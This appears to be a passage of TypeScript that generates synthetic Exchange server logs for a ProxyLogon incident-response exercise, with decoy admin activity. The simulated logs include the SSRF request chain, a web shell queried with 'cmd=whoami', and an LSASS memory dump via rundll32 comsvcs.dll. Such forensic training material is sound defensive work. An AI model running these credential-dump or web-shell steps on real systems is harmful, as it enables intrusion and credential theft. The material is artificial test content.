function applicationEvents(r: Rand, s: Server, special: Record<string, unknown>[]): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  let record = s.name === 'EXCH01' ? 88_000 : 91_000;
  for (const day of days('2021-03-01', '2021-03-05')) {
    for (let i = 0; i < 8; i++) {
      const t = day + int(r, 0, DAY - 1);
      const kind = pick(r, [
        {
          id: 1006,
          provider: 'MSExchange ADAccess',
          level: 4,
          message: 'Process MSExchangeHMWorker.exe (PID=4212). Topology discovery completed.',
        },
        {
          id: 2080,
          provider: 'MSExchange ADAccess',
          level: 4,
          message: `Process Microsoft.Exchange.Directory.TopologyService.exe (PID=2984). Exchange Active Directory Provider has discovered the following servers with the following characteristics: dc01.corp.example.gov CDG 1 7 7 1 0 1 1 7 1`,
        },
        { id: 1003, provider: 'MSExchangeFastSearch', level: 4, message: 'The indexing of mailbox database DB01 is healthy.' },
        {
          id: 4999,
          provider: 'MSExchange Common',
          level: 2,
          message:
            'Watson report about to be sent for process id: 9876, with parameters: E12IIS, c-RTL-AMD64, 15.01.2176.002, w3wp#MSExchangeSyncAppPool, M.Exchange.Net, System.Net.Sockets.SocketException.',
        },
      ]);
      out.push(
        winEventObject({ ...kind, log: 'Application', machine: s.fqdn, time: iso(t), recordId: record++, properties: [kind.message] }),
      );
    }
  }
  out.push(...special);
  return out.sort((a, b) => String(a.TimeCreated).localeCompare(String(b.TimeCreated)));
}

function sysmonCsv(r: Rand, s: Server): Buffer {
  const rows: { t: number; id: number; m: { message: string; properties: string[] } }[] = [];
  const record = 40_000;
  const w3wp = (pool: string) =>
    `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${pool}" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm${guid(r)} -h "C:\\inetpub\\temp\\apppools\\${pool}\\${pool}.config" -w "" -m 0`;
  const add = (time: string, m: { message: string; properties: string[] }, id: number) => {
    rows.push({ t: Date.parse(time), id, m });
  };
  const utc = (ms: number) => iso(ms).replace('T', ' ').replace('Z', '');
  // Normal process activity.
  for (const day of days('2021-03-01', '2021-03-05')) {
    for (let i = 0; i < 10; i++) {
      const t = day + int(r, 0, DAY - 1);
      const p = pick(r, [
        {
          image: 'C:\\Windows\\System32\\svchost.exe',
          cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
          parent: 'C:\\Windows\\System32\\services.exe',
          pcmd: 'C:\\Windows\\system32\\services.exe',
          ofn: 'svchost.exe',
        },
        {
          image: `${INSTALL}Bin\\MSExchangeHMWorker.exe`,
          cmd: `"${INSTALL}Bin\\MSExchangeHMWorker.exe" -wp:"${INSTALL}Bin\\MSExchangeHMHost.exe"`,
          parent: `${INSTALL}Bin\\MSExchangeHMHost.exe`,
          pcmd: `"${INSTALL}Bin\\MSExchangeHMHost.exe"`,
          ofn: 'MSExchangeHMWorker.exe',
        },
        {
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          cmd: 'powershell.exe -NoProfile -Command "Get-Service MSExchange* | Select Name,Status"',
          parent: 'C:\\Windows\\explorer.exe',
          pcmd: 'C:\\Windows\\Explorer.EXE',
          ofn: 'PowerShell.EXE',
        },
        {
          image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
          cmd: '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\1f2e3d4c\\a1b2c3d4\\x0y1z2.cmdline"',
          parent: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
          pcmd: w3wp('MSExchangeOWAAppPool'),
          ofn: 'csc.exe',
        },
      ]);
      add(
        iso(t),
        sysmon1Message({
          utc: utc(t),
          pid: int(r, 1000, 9000),
          image: p.image,
          commandLine: p.cmd,
          user: 'NT AUTHORITY\\SYSTEM',
          parentPid: int(r, 500, 5000),
          parentImage: p.parent,
          parentCommandLine: p.pcmd,
          hashes: `SHA1=${hex(r, 40).toUpperCase()},MD5=${hex(r, 32).toUpperCase()},SHA256=${hex(r, 64).toUpperCase()},IMPHASH=${hex(r, 32).toUpperCase()}`,
          originalFileName: p.ofn,
        }),
        1,
      );
    }
  }
  // The intrusion.
  add(
    '2021-03-03T03:21:33.420Z',
    sysmon11Message({
      utc: '2021-03-03 03:21:33.419',
      pid: 7312,
      image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      target: 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
    }),
    11,
  );
  add(
    '2021-03-03T03:31:02.118Z',
    sysmon1Message({
      utc: '2021-03-03 03:31:02.117',
      pid: 6012,
      image: 'C:\\Windows\\System32\\cmd.exe',
      commandLine: 'cmd /c whoami',
      user: 'NT AUTHORITY\\SYSTEM',
      parentPid: 4480,
      parentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      parentCommandLine: w3wp('MSExchangeOWAAppPool'),
      originalFileName: 'Cmd.Exe',
      currentDirectory: 'c:\\windows\\system32\\inetsrv\\',
      hashes:
        'SHA1=8DCA9749CD48D286950E7A9FA1088C937CBCCAD4,MD5=D7AB69FAD18D4A643D84A271DFC0DBDF,SHA256=FF79D3C4A0B7EB191783C323AB8363EBD1FD10BE58D8BCC96B07067743CA81D5,IMPHASH=272245E2988E1E430500B852C4FB5E18',
    }),
    1,
  );
  add(
    '2021-03-03T03:31:02.301Z',
    sysmon1Message({
      utc: '2021-03-03 03:31:02.300',
      pid: 6120,
      image: 'C:\\Windows\\System32\\whoami.exe',
      commandLine: 'whoami',
      user: 'NT AUTHORITY\\SYSTEM',
      parentPid: 6012,
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
      parentCommandLine: 'cmd /c whoami',
      originalFileName: 'whoami.exe',
      currentDirectory: 'c:\\windows\\system32\\inetsrv\\',
      hashes:
        'SHA1=CA2F8D5E9B9F8B2A4C2B1F0B3E1D6F2A1C9E8B7D,MD5=43C2D3293AD939241DF61B3630A9D3B6,SHA256=1D5491E3C468EE4B4EF6EDFF4BBC7D06EE83180F6F0B1576763EA2EFE049493A,IMPHASH=7FF0758B766F747CE57DFAC70743FB88',
    }),
    1,
  );
  add(
    '2021-03-03T03:40:15.744Z',
    sysmon1Message({
      utc: '2021-03-03 03:40:15.743',
      pid: 7020,
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\windows\\temp\\lsass.dmp full',
      user: 'NT AUTHORITY\\SYSTEM',
      parentPid: 6644,
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
      parentCommandLine: 'cmd /c "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\windows\\temp\\lsass.dmp full"',
      originalFileName: 'RUNDLL32.EXE',
      currentDirectory: 'c:\\windows\\system32\\inetsrv\\',
      hashes:
        'SHA1=DD399AE46303343F9F0DA189AEE11C67BD868222,MD5=EF3179D498793BF4234F708D3BE28633,SHA256=B53F3C0CD32D7F20849850768DA6431E5F876B7BFA61DB0AA0700B02873393FA,IMPHASH=F27A7FC3A53E74F45BE370131953896A',
    }),
    1,
  );
  rows.sort((a, b) => a.t - b.t);
  const lines = [
    '#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord',
    WINEVENT_CSV_COLUMNS.map(csvQuoted).join(','),
    ...rows.map((x, i) =>
      winEventCsvRow({
        id: x.id,
        provider: 'Microsoft-Windows-Sysmon',
        log: 'Microsoft-Windows-Sysmon/Operational',
        machine: s.fqdn,
        time: iso(x.t),
        level: 4,
        recordId: record + i,
        message: x.m.message,
        properties: x.m.properties,
        userId: 'S-1-5-18',
      }),
    ),
  ];
  // Export-Csv in Windows PowerShell 5.1 writes ASCII: non-ASCII characters become "?".
  return Buffer.from(`${lines.join('\r\n')}\r\n`.replace(/[^\x00-\x7f]/g, '?'), 'latin1');
}

interface Nxlog4688 {
  readonly at: string;
  readonly newImage: string;
  readonly creatorImage: string;
  readonly commandLine: string;
  readonly user: string;
  readonly domain: string;
  readonly sid: string;
}

/** NXLog im_msvistalog -> to_json() lines for Security 4688 (EXCH02 and MBX04 have no Sysmon), plus `special` events. */
function securityNxlog(
  r: Rand,
  s: Server,
  special: readonly Nxlog4688[] = [],
  from = '2021-02-25',
  perDay = 12,
): { t: number; text: string }[] {
  const lines: { t: number; text: string }[] = [];
  let record = 1_200_000;
  const ev = (t: number, p: { newImage: string; creatorImage: string; commandLine: string; user: string; domain: string; sid: string }) => {
    const newPid = `0x${int(r, 0x400, 0x3000).toString(16)}`;
    const creatorPid = `0x${int(r, 0x400, 0x3000).toString(16)}`;
    const m = security4688Message({
      subjectSid: p.sid,
      subjectUser: p.user,
      subjectDomain: p.domain,
      newPid,
      newImage: p.newImage,
      creatorPid,
      creatorImage: p.creatorImage,
      commandLine: p.commandLine,
    });
    const local = iso(t).replace('T', ' ').slice(0, 19);
    lines.push({
      t,
      text: JSON.stringify({
        EventTime: local,
        Hostname: s.fqdn,
        Keywords: '-9214364837600034816',
        EventType: 'AUDIT_SUCCESS',
        SeverityValue: 2,
        Severity: 'INFO',
        EventID: 4688,
        SourceName: 'Microsoft-Windows-Security-Auditing',
        ProviderGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
        Version: 2,
        Task: 13312,
        OpcodeValue: 0,
        RecordNumber: record++,
        ActivityID: null,
        ExecutionProcessID: 4,
        ExecutionThreadID: int(r, 100, 9000),
        Channel: 'Security',
        Message: m.message,
        Category: 'Process Creation',
        Opcode: 'Info',
        SubjectUserSid: p.sid,
        SubjectUserName: p.user,
        SubjectDomainName: p.domain,
        SubjectLogonId: '0x3e7',
        NewProcessId: newPid,
        NewProcessName: p.newImage,
        TokenElevationType: '%%1936',
        ProcessId: creatorPid,
        CommandLine: p.commandLine,
        TargetUserSid: 'S-1-0-0',
        TargetUserName: '-',
        TargetDomainName: '-',
        TargetLogonId: '0x0',
        ParentProcessName: p.creatorImage,
        MandatoryLabel: 'S-1-16-16384',
        EventReceivedTime: local,
        SourceModuleName: 'in_security',
        SourceModuleType: 'im_msvistalog',
      }),
    });
  };
  for (const day of days(from, '2021-03-05')) {
    for (let i = 0; i < perDay; i++) {
      const t = day + int(r, 0, DAY - 1);
      const p = pick(r, [
        {
          newImage: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
          creatorImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
          commandLine: `"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\ecp\\${hex(r, 8)}\\${hex(r, 8)}\\${hex(r, 8)}.cmdline"`,
          user: `${s.name}$`,
          domain: 'CORP',
          sid: 'S-1-5-18',
        },
        {
          newImage: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe',
          creatorImage: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
          commandLine: `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES${hex(r, 4).toUpperCase()}.tmp"`,
          user: `${s.name}$`,
          domain: 'CORP',
          sid: 'S-1-5-18',
        },
        {
          newImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
          creatorImage: 'C:\\Windows\\System32\\svchost.exe',
          commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
          user: `${s.name}$`,
          domain: 'CORP',
          sid: 'S-1-5-18',
        },
        {
          newImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          creatorImage: 'C:\\Windows\\explorer.exe',
          commandLine:
            'powershell.exe -NoExit -Command ". \'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1\'; Connect-ExchangeServer -auto"',
          user: 'exadmin',
          domain: 'CORP',
          sid: 'S-1-5-21-3623811015-3361044348-30300820-1107',
        },
      ]);
      ev(t, p);
    }
  }
  for (const x of special) ev(Date.parse(x.at), x);
  return lines;
}

/** NXLog to_json() lines for Sysmon process (1) and file (11) events, as NXLog flattens the event data. */
function sysmonNxlog(
  s: Server,
  events: readonly { at: string; id: 1 | 11; data: Record<string, string> }[],
  firstRecord: number,
): { t: number; text: string }[] {
  return events.map((e, i) => {
    const t = Date.parse(e.at);
    const local = iso(t).replace('T', ' ').slice(0, 19);
    return {
      t,
      text: JSON.stringify({
        EventTime: local,
        Hostname: s.fqdn,
        Keywords: '-9223372036854775808',
        EventType: 'INFO',
        SeverityValue: 2,
        Severity: 'INFO',
        EventID: e.id,
        SourceName: 'Microsoft-Windows-Sysmon',
        ProviderGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
        Version: e.id === 1 ? 5 : 2,
        Task: e.id,
        OpcodeValue: 0,
        RecordNumber: firstRecord + i,
        ExecutionProcessID: 3120,
        ExecutionThreadID: 4012,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Domain: 'NT AUTHORITY',
        AccountName: 'SYSTEM',
        UserID: 'S-1-5-18',
        AccountType: 'User',
        Category: e.id === 1 ? 'Process Create (rule: ProcessCreate)' : 'File created (rule: FileCreate)',
        Opcode: 'Info',
        UtcTime: iso(t).replace('T', ' ').replace('Z', ''),
        ...e.data,
        EventReceivedTime: local,
        SourceModuleName: 'in_sysmon',
        SourceModuleType: 'im_msvistalog',
      }),
    };
  });
}

const nxlogText = (lines: { t: number; text: string }[]): Buffer =>
  Buffer.from(
    `${[...lines]
      .sort((a, b) => a.t - b.t)
      .map((l) => l.text)
      .join('\r\n')}\r\n`,
    'utf8',
  );

function umEvent(s: Server, at: string, recordId: number, exception: string): Record<string, unknown> {
  return winEventObject({
    id: 1000,
    provider: 'MSExchange Unified Messaging',
    log: 'Application',
    machine: s.fqdn,
    time: at,
    level: 2,
    recordId,
    message: `An unhandled exception occurred in a UM worker process. Exception: ${exception}: ${exception === 'System.InvalidCastException' ? "Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'." : 'Insufficient memory to continue the execution of the program.'}\r\n   at Microsoft.Exchange.UM.UMCore.UMWorkerProcess.ProcessRequest()`,
    properties: ['UMWorkerProcess.exe', exception],
  });
}

// ---------------------------------------------------------------- file inventory

const MSTIC_SUPP0RT_SHA256 = 'B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0';

function inventory(r: Rand, s: Server): Buffer {
  const owa = `${INSTALL}FrontEnd\\HttpProxy\\owa\\auth\\`;
  const files = [
    'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\.keep',
    `${owa}errorFE.aspx`,
    `${owa}expiredpassword.aspx`,
    `${owa}frowny.aspx`,
    `${owa}logoff.aspx`,
    `${owa}logon.aspx`,
    `${owa}OutlookCN.aspx`,
    `${owa}RedirSuiteServiceProxy.aspx`,
    `${owa}signout.aspx`,
    `${owa}Current\\themes\\resources\\logon.css`,
    `${INSTALL}FrontEnd\\HttpProxy\\ecp\\auth\\TimeoutLogoff.aspx`,
    'C:\\inetpub\\wwwroot\\iisstart.htm',
    'C:\\inetpub\\wwwroot\\iisstart.png',
  ];
  if (s.name === 'EXCH02')
    files.push(
      'C:\\ProgramData\\McAfee\\Agent\\data\\FrameworkConfig.zip',
      'C:\\ProgramData\\McAfee\\Agent\\data\\engmin.zip',
      'C:\\ProgramData\\McAfee\\Agent\\data\\sitelist.zip',
    );
  // False-positive bait Test-ProxyLogon stopped reporting without a CVE hit: an admin's short-named zip of logs directly
  // in ProgramData and an LSASS dump taken for Microsoft support.
  if (s.name === 'EXCH02') files.push('C:\\ProgramData\\logs.zip', 'C:\\Windows\\Temp\\lsass_210302_101502.dmp');
  const lines = ['#TYPE Microsoft.PowerShell.Commands.FileHashInfo', '"Algorithm","Hash","Path"'];
  for (const f of files) lines.push(['SHA256', hex(r, 64).toUpperCase(), f].map(csvQuoted).join(','));
  if (s.name === 'EXCH01')
    lines.splice(4, 0, ['SHA256', MSTIC_SUPP0RT_SHA256, 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx'].map(csvQuoted).join(','));
  return crlf(lines);
}

// ---------------------------------------------------------------- the two archives

function exch01(): Buffer {
  const r = rng(20210303);
  const s = EXCH01;
  const volexity2019 = '104.140.114.110';
  const volexity2021 = '149.28.14.163';
  const py = 'python-requests/2.25.1';
  const canary = 'Jp0E5VQw1E2qP3Xg6sYv8A';
  const chain = (at: string, target: string, status: number) => ssrf(r, s, at, target, { ip: volexity2021, ua: py, status });
  const proxyExtras = new Map<string, ProxyRow[]>([
    [
      '2019-04-11/Ecp',
      [
        ssrf(r, s, '2019-04-11T22:41:07.319Z', '/mapi/emsmdb/?#', {
          ip: volexity2019,
          ua: 'python-requests/2.19.1',
          status: 200,
          stem: '/ecp/x.js',
        }),
      ],
    ],
    [
      '2019-04-12/Ecp',
      [
        ssrf(r, s, '2019-04-12T02:13:55.802Z', '/autodiscover/autodiscover.xml?#', {
          ip: volexity2019,
          ua: 'python-requests/2.19.1',
          status: 200,
          stem: '/ecp/x.js',
        }),
      ],
    ],
    [
      '2019-04-13/Ecp',
      [
        ssrf(r, s, '2019-04-13T23:05:41.006Z', '/mapi/emsmdb/?#', {
          ip: volexity2019,
          ua: 'python-requests/2.19.1',
          status: 200,
          stem: '/ecp/default.flt',
        }),
      ],
    ],
    [
      '2021-03-03/Ecp',
      [
        chain('2021-03-03T03:21:08.114Z', '/autodiscover/autodiscover.xml?#', 200),
        chain('2021-03-03T03:21:11.530Z', '/mapi/emsmdb/?#', 200),
        chain('2021-03-03T03:21:14.271Z', '/ecp/proxyLogon.ecp?#', 241),
        chain('2021-03-03T03:21:19.846Z', `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory#`, 200),
        chain('2021-03-03T03:21:25.402Z', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory#`, 200),
        chain(
          '2021-03-03T03:21:31.007Z',
          `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=ResetOABVirtualDirectory#`,
          200,
        ),
      ],
    ],
  ]);
  const bing = 'Mozilla/5.0 (compatible; Bingbot/2.0; +http://www.bing.com/bingbot.htm)';
  const front = (at: string, method: string, stem: string, ua: string, status: number, query: string | null = null) =>
    iisRow(at, {
      's-ip': s.ip,
      'cs-method': method,
      'cs-uri-stem': stem,
      'cs-uri-query': query,
      's-port': 443,
      'c-ip': volexity2021,
      'cs(User-Agent)': ua,
      'sc-status': status,
      'time-taken': int(r, 20, 900),
    });
  const iisExtras = new Map<string, IisRow[]>([
    [
      'W3SVC1/2021-03-03',
      [
        front('2021-03-03T03:20:58Z', 'POST', '/owa/auth/Current/themes/resources/logon.css', bing, 200),
        front('2021-03-03T03:21:08Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:21:11Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:21:14Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:21:19Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:21:25Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:21:31Z', 'POST', '/ecp/y.js', py, 200),
        front('2021-03-03T03:30:40Z', 'POST', '/aspnet_client/supp0rt.aspx', 'antSword/v2.1', 200),
        front('2021-03-03T03:31:02Z', 'GET', '/aspnet_client/supp0rt.aspx', 'antSword/v2.1', 200, 'cmd=whoami'),
        front('2021-03-03T03:40:15Z', 'POST', '/aspnet_client/supp0rt.aspx', 'antSword/v2.1', 200),
        front('2021-03-03T03:42:09Z', 'POST', '/aspnet_client/supp0rt.aspx', 'antSword/v2.1', 200),
      ],
    ],
    [
      'W3SVC2/2021-03-03',
      [
        iisRow('2021-03-03T03:21:14Z', {
          's-ip': s.ip,
          'cs-method': 'POST',
          'cs-uri-stem': '/ecp/proxyLogon.ecp',
          's-port': 444,
          'cs-username': null,
          'c-ip': '127.0.0.1',
          'cs(User-Agent)': py,
          'sc-status': 241,
        }),
        iisRow('2021-03-03T03:21:31Z', {
          's-ip': s.ip,
          'cs-method': 'POST',
          'cs-uri-stem': '/ecp/DDI/DDIService.svc/SetObject',
          'cs-uri-query': `msExchEcpCanary=${canary}&schema=ResetOABVirtualDirectory`,
          's-port': 444,
          'cs-username': 'CORP\\EXCH01$',
          'c-ip': '127.0.0.1',
          'cs(User-Agent)': py,
          'sc-status': 200,
        }),
      ],
    ],
  ]);
  const files: ZipFile[] = [...httpProxyLogs(r, s, proxyExtras), ...iisLogs(r, s, iisExtras)];
  for (const day of days('2021-03-01', '2021-03-05')) {
    const isAttack = iso(day).startsWith('2021-03-03');
    files.push(
      ecpLog(
        r,
        s,
        day,
        isAttack
          ? [
              [
                '2021-03-03T03:21:25.431Z',
                [
                  ['TIME', '1871'],
                  ['SID', 'S-1-5-18'],
                  ['USID', 'S-1-5-18'],
                  ['REQID', guid(r)],
                  ['VER', '15.1.2176.2'],
                  ['CMD', OAB_EXTERNAL_URL_PAYLOAD],
                  ['URL', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory`],
                  ['ACTID', guid(r)],
                ],
              ],
            ]
          : [],
      ),
    );
    files.push(
      oabLog(
        r,
        s,
        day,
        isAttack
          ? [
              [
                '2021-03-03T03:21:33.402Z',
                "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx' needs to be removed",
              ],
            ]
          : [],
      ),
    );
  }
  const app = applicationEvents(r, s, [umEvent(s, '2021-03-03T03:19:44.671Z', 88_512, 'System.InvalidCastException')]);
  const eventlogs = zip([
    { name: 'Application.json', data: utf16le(ps51Json(app)), mtime: new Date('2021-03-06T09:12:00Z') },
    { name: 'Sysmon.csv', data: sysmonCsv(r, s), mtime: new Date('2021-03-06T09:13:00Z') },
  ]);
  files.push({ name: `${s.name}/eventlogs.zip`, data: eventlogs, mtime: new Date('2021-03-06T09:14:00Z') });
  files.push({ name: `${s.name}/filehashes.csv`, data: inventory(r, s), mtime: new Date('2021-03-06T09:20:00Z') });
  return zip(files);
}

function exch02(): Buffer {
  const r = rng(20210304);
  const s = EXCH02;
  const scanner = '203.0.113.77';
  const nse = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
  const failed = (at: string) =>
    ssrf(r, s, at, '/autodiscover/autodiscover.xml?#', { ip: scanner, ua: 'python-requests/2.25.1', status: 500 });
  const nseRow = (at: string): ProxyRow => {
    const time = Date.parse(at);
    return {
      time,
      values: httpProxyRequest({
        DateTime: iso(time),
        RequestId: guid(r),
        Protocol: 'Owa',
        UrlHost: 'mail.corp.example.gov',
        UrlStem: '/owa/auth/x.js',
        AuthenticationType: '',
        IsAuthenticated: 'False',
        AuthenticatedUser: '',
        AnchorMailbox: 'ServerInfo~localhost/owa/auth/logon.aspx?~3',
        UserAgent: nse,
        ClientIpAddress: '192.0.2.50',
        ServerHostName: s.name,
        HttpStatus: 200,
        BackEndStatus: 200,
        Method: 'GET',
        RoutingType: 'ServerInfo',
        RoutingHint: 'ServerInfo-Header',
        TargetServer: 'localhost',
        UrlQuery: '',
        GenericInfo: ';RequestRouted=True;',
      }),
    };
  };
  // An EWS integration (a python script of the helpdesk) posting to /EWS with python-requests: not an exploit agent there.
  const ews = (at: string): ProxyRow => {
    const time = Date.parse(at);
    const q: Req = {
      protocol: 'Ews',
      method: 'POST',
      stem: '/EWS/Exchange.asmx',
      query: '',
      ua: 'python-requests/2.25.1',
      user: 'jokafor',
      ip: '198.51.100.60',
      status: 200,
    };
    return { time, values: proxyValues(r, s, time, q) };
  };
  const proxyExtras = new Map<string, ProxyRow[]>([
    ['2021-03-02/Ews', [ews('2021-03-02T09:15:02.118Z'), ews('2021-03-02T09:45:02.406Z')]],
    ['2021-03-03/Ecp', [failed('2021-03-03T05:02:11.093Z'), failed('2021-03-03T05:02:13.517Z')]],
    ['2021-03-04/Ecp', [failed('2021-03-04T19:44:02.660Z')]],
    ['2021-03-05/Owa', [nseRow('2021-03-05T14:10:05.221Z'), nseRow('2021-03-05T14:10:05.498Z')]],
  ]);
  const files: ZipFile[] = [...httpProxyLogs(r, s, proxyExtras), ...iisLogs(r, s, new Map())];
  for (const day of days('2021-03-01', '2021-03-05')) {
    const isAdminDay = iso(day).startsWith('2021-03-02');
    files.push(
      ecpLog(
        r,
        s,
        day,
        isAdminDay
          ? [
              [
                '2021-03-02T14:05:12.310Z',
                [
                  ['TIME', '642'],
                  ['SID', 'S-1-5-21-3623811015-3361044348-30300820-1107'],
                  ['USID', 'S-1-5-21-3623811015-3361044348-30300820-1107'],
                  ['REQID', guid(r)],
                  ['VER', '15.1.2176.2'],
                  [
                    'CMD',
                    "Set-OabVirtualDirectory.Identity='EXCH02\\OAB (Default Web Site)'.ExternalUrl='https://mail.corp.example.gov/OAB'.InternalUrl='https://exch02.corp.example.gov/OAB'",
                  ],
                  ['URL', '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Qx1&schema=OABVirtualDirectory'],
                  ['ACTID', guid(r)],
                ],
              ],
            ]
          : [],
      ),
    );
    files.push(oabLog(r, s, day, []));
  }
  const app = applicationEvents(r, s, [umEvent(s, '2021-03-04T11:02:09.004Z', 91_777, 'System.OutOfMemoryException')]);
  // Routine administration that looks like post-exploitation: a PsExec run, group additions, an eDiscovery export.
  const admin = { user: 'exadmin', domain: 'CORP', sid: 'S-1-5-21-3623811015-3361044348-30300820-1107' };
  const cmdExe = 'C:\\Windows\\System32\\cmd.exe';
  const exch02Bait: Nxlog4688[] = [
    {
      at: '2021-03-02T10:20:00Z',
      newImage: 'C:\\Tools\\PSTools\\PsExec64.exe',
      creatorImage: cmdExe,
      commandLine: 'PsExec64.exe \\\\exch01.corp.example.gov ipconfig /flushdns',
      ...admin,
    },
    {
      at: '2021-03-02T10:25:00Z',
      newImage: 'C:\\Windows\\System32\\net.exe',
      creatorImage: cmdExe,
      commandLine: 'net group "Domain Admins" exadmin2 /add /domain',
      ...admin,
    },
    {
      at: '2021-03-02T10:26:00Z',
      newImage: 'C:\\Windows\\System32\\net.exe',
      creatorImage: cmdExe,
      commandLine: 'net localgroup "Remote Desktop Users" helpdesk2 /add',
      ...admin,
    },
    {
      at: '2021-03-02T11:00:00Z',
      newImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      creatorImage: 'C:\\Windows\\explorer.exe',
      commandLine:
        'powershell.exe -Command "New-MailboxExportRequest -Mailbox legal.hold@corp.example.gov -FilePath \\\\FS01\\exports\\legal-hold.pst"',
      ...admin,
    },
  ];
  const eventlogs = zip([
    { name: 'Application.json', data: utf16le(ps51Json(app)), mtime: new Date('2021-03-06T10:02:00Z') },
    { name: 'Security.json', data: nxlogText(securityNxlog(r, s, exch02Bait)), mtime: new Date('2021-03-06T10:03:00Z') },
  ]);
  files.push({ name: `${s.name}/eventlogs.zip`, data: eventlogs, mtime: new Date('2021-03-06T10:04:00Z') });
  files.push({ name: `${s.name}/filehashes.csv`, data: inventory(r, s), mtime: new Date('2021-03-06T10:10:00Z') });
  return zip(files);
}

/** CAS03, the second site's front end: public exploit code's SSRF against the back end MBX04, logged here. */
function cas03(): Buffer {
  const r = rng(20210305);
  const s = CAS03;
  const ip = '165.232.154.116';
  const ua = 'ExchangeServicesClient/0.0.0.0';
  const canary = 'z2Lq0K8iYb7tE9uM5wQ4Rg';
  const backend = MBX04.fqdn;
  // Public exploit code: a random .js carrier, an Admin@ anchor and the '&a=~1942062522' suffix instead of '#'.
  const step = (at: string, target: string, status: number) =>
    ssrf(r, s, at, target, { ip, ua, status, stem: '/ecp/Zk3pWq9a.js', backend, user: 'Admin' });
  const proxyExtras = new Map<string, ProxyRow[]>([
    [
      '2021-03-04/Ecp',
      [
        step('2021-03-04T08:10:02.514Z', '/autodiscover/autodiscover.xml?a=~1942062522', 200),
        step('2021-03-04T08:10:04.101Z', '/mapi/emsmdb?a=~1942062522', 200),
        step('2021-03-04T08:10:05.877Z', '/ecp/proxyLogon.ecp?a=~1942062522', 241),
        step(
          '2021-03-04T08:10:08.032Z',
          `/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=${canary}&a=~1942062522`,
          200,
        ),
        step(
          '2021-03-04T08:10:10.659Z',
          `/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=${canary}&a=~1942062522`,
          200,
        ),
        step(
          '2021-03-04T08:10:13.240Z',
          `/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=${canary}&a=~1942062522`,
          200,
        ),
      ],
    ],
  ]);
  return zip(httpProxyLogs(r, s, proxyExtras, '2021-03-01'));
}

/** MBX04, the back end: the web shell written on its D: install and commands run through it (NXLog export). */
function mbx04(): Buffer {
  const r = rng(20210306);
  const s = MBX04;
  const shell = 'D:\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\Zk3pWq9a.aspx';
  const w3wp = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
  const pool = (name: string) =>
